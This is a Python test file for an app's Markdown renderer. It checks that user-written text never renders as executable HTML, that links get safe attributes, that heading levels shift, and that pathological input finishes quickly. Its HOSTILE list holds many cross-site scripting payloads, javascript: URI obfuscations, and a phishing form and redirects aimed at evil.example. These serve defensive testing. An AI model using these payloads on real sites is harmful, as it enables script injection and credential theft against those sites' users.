"""Is what people write in Markdown shown as they mean it, and never as anything that a browser runs (T11)?"""

from html.parser import HTMLParser
from time import perf_counter
from typing import Final

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.services.markdown import rendered

RUN: Final = "alert(1)"
TAGS: Final = {
    "p", "br", "strong", "em", "code", "pre", "a", "ul", "ol", "li", "blockquote", "hr", "h3", "h4", "h5", "h6",
}  # fmt: skip
HOSTILE: Final = (
    f"<script>{RUN}</script>",
    f"<ScRiPt src=//evil.example/x.js></ScRiPt>{RUN}",
    f'<img src=x onerror="{RUN}">',
    f"<svg/onload={RUN}>",
    f'<svg><script xlink:href="data:,{RUN}"></script></svg>',
    f"<body onload={RUN}>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<div style="background:url(javascript:{RUN})">x</div>',
    f"<style>@import 'javascript:{RUN}'</style>",
    '<form action="//evil.example"><input name=password><button>Se connecter</button></form>',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><x",
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x]( javascript:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](java&#x0A;script:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](\x01javascript:{RUN})",
    f"[x](%6Aavascript:{RUN})",
    f"[x](vbscript:{RUN})",
    f"[x](data:text/html;base64,PHNjcmlwdD5{RUN})",
    f"[x](<javascript:{RUN}>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/auth/sign-out)",
    "[x](#main)",
    "[x](http:evil.example)",
    "[x](https:///evil.example)",
    f'[x](https://a.example "onclick={RUN}")',
    f'[x](https://a.example\' onmouseover="{RUN}")',
    f'[x](<https://a.example" onmouseover="{RUN}>)',
    f'[x](https://a.example/"><img src=x onerror={RUN}>)',
    f"<javascript:{RUN}>",
    f"<https://a.example/'onmouseover={RUN}>",
    f'<https://a.example/"onmouseover="{RUN}>',
    f'https://a.example/"onmouseover="{RUN}',
    f"![x](javascript:{RUN})",
    "![x](https://evil.example/pixel.png)",
    f'![x" onerror="{RUN}](https://evil.example/x.png)',
    f"[![x](https://evil.example/x.png)](javascript:{RUN})",
    f"[x][1]\n\n[1]: javascript:{RUN}",
    f"[x][1]\n\n[1]: https://a.example \"' onclick={RUN}\"",
    f"[[x](javascript:{RUN})](https://a.example)",
    f"``` onclick={RUN} class=fixed\n<script>{RUN}</script>\n```",
    f"# <img src=x onerror={RUN}>",
    f"> - <img src=x onerror={RUN}>",
    f"**<img src=x onerror={RUN}>**",
    f"`<img src=x onerror={RUN}>`",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | x |",
    '<a href="https://a.example" onclick=alert(1)>x</a>',
    "{{7*7}} {%print%} ${alert(1)} `${alert(1)}`",
    "</div></main><script>alert(1)</script>",
    "\u202e<tpircs>",
)  # fmt: skip


class _Seen(HTMLParser):
    """Every tag and attribute, as a browser would make them out."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags, self.odd, self.text = list[str](), list[str](), ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        said = dict(attrs)
        if tag == "a":
            href = said.pop("href", None) or ""
            if said.pop("rel", None) != "noopener noreferrer" or not href.lower().startswith(
                ("http://", "https://", "mailto:")
            ):
                self.odd.append(f"a {href}")
        if tag == "ol":
            said.pop("start", None)
        if said or tag not in TAGS:
            self.odd.append(f"{tag} {said}")

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.odd.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.odd.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.odd.append(f"instruction {data}")

    def unknown_decl(self, data: str) -> None:
        self.odd.append(f"declaration {data}")


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_becomes_more_than_words(text: str) -> None:
    for said in (text, f"a {text} b", f"> 1. {text}", f"[{text}](https://a.example)", text * 3):
        assert _Seen(rendered(said, 4)).odd == []


@given(
    st.lists(
        st.sampled_from([*HOSTILE, *"[]()<>!*_`#>-&\"'=:/\\ \n\t", "https://", "mailto:", "a", "\n\n"]), max_size=30
    )
)
def test_nothing_put_together_does_either(parts: list[str]) -> None:
    assert _Seen(rendered("".join(parts), 4)).odd == []


@given(st.text(max_size=200))
def test_nor_does_any_text(text: str) -> None:
    assert _Seen(rendered(text, 4)).odd == []


def test_what_people_write_reads_as_they_mean_it() -> None:
    text = "Bonjour **tous** et *toutes*,\nà jeudi.\n\n- un\n- deux\n\n> cité\n\n3. trois\n\n---\n\n`code`"
    assert rendered(text, 4).splitlines() == [
        "<p>Bonjour <strong>tous</strong> et <em>toutes</em>,<br />",
        "à jeudi.</p>",
        *("<ul>", "<li>un</li>", "<li>deux</li>", "</ul>"),
        *("<blockquote>", "<p>cité</p>", "</blockquote>"),
        *('<ol start="3">', "<li>trois</li>", "</ol>"),
        *("<hr />", "<p><code>code</code></p>"),
    ]
    assert rendered("    en retrait", 4) == "<p>en retrait</p>\n"
    assert _Seen(rendered("Fish & chips &amp; <b>", 4)).text.strip() == "Fish & chips &amp; <b>"


def test_addresses_of_the_web_and_of_mail_are_links() -> None:
    def link(href: str, words: str) -> str:
        return f'<a href="{href}" rel="noopener noreferrer">{words}</a>'

    text = "[Le site](HTTPS://a.example/x?y=1&z=2) https://b.example/é. <http://c.example> anne@college.fr fin.Le"
    links = (
        link("HTTPS://a.example/x?y=1&amp;z=2", "Le site"),
        f"{link('https://b.example/%C3%A9', 'https://b.example/é')}.",
        link("http://c.example", "http://c.example"),
        link("mailto:anne@college.fr", "anne@college.fr"),
    )
    assert rendered(text, 4) == f"<p>{' '.join(links)} fin.Le</p>\n"


@pytest.mark.parametrize(
    ("text", "levels"),
    [
        ("# a\n## b\n### c\n# d", "4564"),
        ("### a\n# b\n###### c", "445"),
        ("# a\n## b\n### c\n#### d\n##### e", "45666"),
        ("a\n===\n\nb\n---", "45"),
        ("> ## a\n\n- # b", "44"),
    ],
)
def test_headings_come_below_that_of_the_page_and_leave_no_level_out(text: str, levels: str) -> None:
    assert [tag for tag in _Seen(rendered(text, 4)).tags if tag.startswith("h")] == [f"h{level}" for level in levels]


@pytest.mark.parametrize(
    "part", ["[", "![", "*a_", "`", "> ", "- ", "<", "[a](", "**", "\\", "&#x;", "[a]: ", "a@", "https://a.a/("]
)
def test_no_text_of_the_longest_takes_long(part: str) -> None:
    text, began = (part * 10_000)[:10_000], perf_counter()
    rendered(text, 4)
    assert perf_counter() - began < 2
